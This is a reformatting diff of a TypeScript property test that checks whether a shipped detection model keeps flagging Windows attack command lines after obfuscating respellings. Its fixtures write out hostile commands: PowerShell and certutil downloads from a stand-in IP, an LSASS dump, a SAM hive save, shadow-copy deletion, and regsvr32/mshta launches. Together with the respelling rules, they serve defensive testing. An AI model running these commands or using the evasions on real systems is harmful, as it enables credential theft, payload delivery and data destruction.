@@ -6,17 +6,65 @@ import { processStart, type StartFields } from './process-start.ts';
 
 const system = 'C:\\Windows\\System32\\';
 const powershell = `${system}WindowsPowerShell\\v1.0\\powershell.exe`;
-const person = { userId: 'S-1-5-21-1-2-3-1001', integrityLevel: 'High', parentExecutable: `${system}cmd.exe`, parentCommandLine: 'cmd.exe' } as const;
+const person = {
+  userId: 'S-1-5-21-1-2-3-1001',
+  integrityLevel: 'High',
+  parentExecutable: `${system}cmd.exe`,
+  parentCommandLine: 'cmd.exe',
+} as const;
 
 /** Attacks as they are recorded, each with the words whose spelling is free. */
-const attacks: readonly (StartFields & { readonly executable: string; readonly commandLine: string; readonly originalFileName: string })[] = [
-  { ...person, executable: powershell, originalFileName: 'PowerShell.EXE', commandLine: "powershell.exe -nop -w hidden -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')" },
-  { ...person, executable: `${system}certutil.exe`, originalFileName: 'CertUtil.exe', commandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/payload.exe C:\\Users\\Public\\p.exe' },
-  { ...person, executable: `${system}rundll32.exe`, originalFileName: 'RUNDLL32.EXE', commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full' },
-  { ...person, executable: `${system}reg.exe`, originalFileName: 'reg.exe', commandLine: 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.hiv' },
-  { ...person, executable: `${system}cmd.exe`, originalFileName: 'Cmd.Exe', commandLine: 'cmd.exe /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no' },
-  { ...person, executable: `${system}regsvr32.exe`, originalFileName: 'REGSVR32.EXE', commandLine: 'regsvr32.exe /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll' },
-  { ...person, executable: `${system}mshta.exe`, originalFileName: 'MSHTA.EXE', commandLine: 'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden"":close")' },
+const attacks: readonly (StartFields & {
+  readonly executable: string;
+  readonly commandLine: string;
+  readonly originalFileName: string;
+})[] = [
+  {
+    ...person,
+    executable: powershell,
+    originalFileName: 'PowerShell.EXE',
+    commandLine:
+      "powershell.exe -nop -w hidden -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
+  },
+  {
+    ...person,
+    executable: `${system}certutil.exe`,
+    originalFileName: 'CertUtil.exe',
+    commandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/payload.exe C:\\Users\\Public\\p.exe',
+  },
+  {
+    ...person,
+    executable: `${system}rundll32.exe`,
+    originalFileName: 'RUNDLL32.EXE',
+    commandLine:
+      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full',
+  },
+  {
+    ...person,
+    executable: `${system}reg.exe`,
+    originalFileName: 'reg.exe',
+    commandLine: 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.hiv',
+  },
+  {
+    ...person,
+    executable: `${system}cmd.exe`,
+    originalFileName: 'Cmd.Exe',
+    commandLine:
+      'cmd.exe /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no',
+  },
+  {
+    ...person,
+    executable: `${system}regsvr32.exe`,
+    originalFileName: 'REGSVR32.EXE',
+    commandLine: 'regsvr32.exe /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll',
+  },
+  {
+    ...person,
+    executable: `${system}mshta.exe`,
+    originalFileName: 'MSHTA.EXE',
+    commandLine:
+      'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden"":close")',
+  },
 ];
 
 /** What only changes how a line is written. */
@@ -26,7 +74,9 @@ const respellings: Readonly<Record<string, (line: string, pick: () => number) =>
   quotes: (line, pick) => line.replaceAll(/[a-z](?=[a-z])/gi, (c) => (pick() < 0.1 ? `${c}""` : c)),
   spaces: (line) => line.replaceAll(' ', '    '),
   variables: (line, pick) =>
-    line.replaceAll(/(?<=[a-z])(?=[a-z])/gi, () => (pick() < 0.05 ? '%ab%' : '')).replaceAll(/C:\\Windows/g, '%SystemRoot%'),
+    line
+      .replaceAll(/(?<=[a-z])(?=[a-z])/gi, () => (pick() < 0.05 ? '%ab%' : ''))
+      .replaceAll(/C:\\Windows/g, '%SystemRoot%'),
 };
 
 describe('spelling and renaming do not change the verdict of the shipped model', () => {
@@ -43,13 +93,18 @@ describe('spelling and renaming do not change the verdict of the shipped model',
 
   test.each(Object.keys(respellings))('%s', async (kind) => {
     await fc.assert(
-      fc.asyncProperty(fc.array(fc.double({ min: 0, max: 1, noNaN: true }), { minLength: 64, maxLength: 64 }), async (draws) => {
-        let at = 0;
-        const pick = (): number => draws[at++ % draws.length]!;
-        const events = attacks.map((attack) => processStart({ ...attack, commandLine: respellings[kind]!(attack.commandLine, pick) }));
-        const predictions = await scorer.score(events);
-        expect(predictions.map(({ prediction }) => prediction)).toEqual(attacks.map(() => 1));
-      }),
+      fc.asyncProperty(
+        fc.array(fc.double({ min: 0, max: 1, noNaN: true }), { minLength: 64, maxLength: 64 }),
+        async (draws) => {
+          let at = 0;
+          const pick = (): number => draws[at++ % draws.length]!;
+          const events = attacks.map((attack) =>
+            processStart({ ...attack, commandLine: respellings[kind]!(attack.commandLine, pick) }),
+          );
+          const predictions = await scorer.score(events);
+          expect(predictions.map(({ prediction }) => prediction)).toEqual(attacks.map(() => 1));
+        },
+      ),
       { numRuns: 40 },
     );
   });
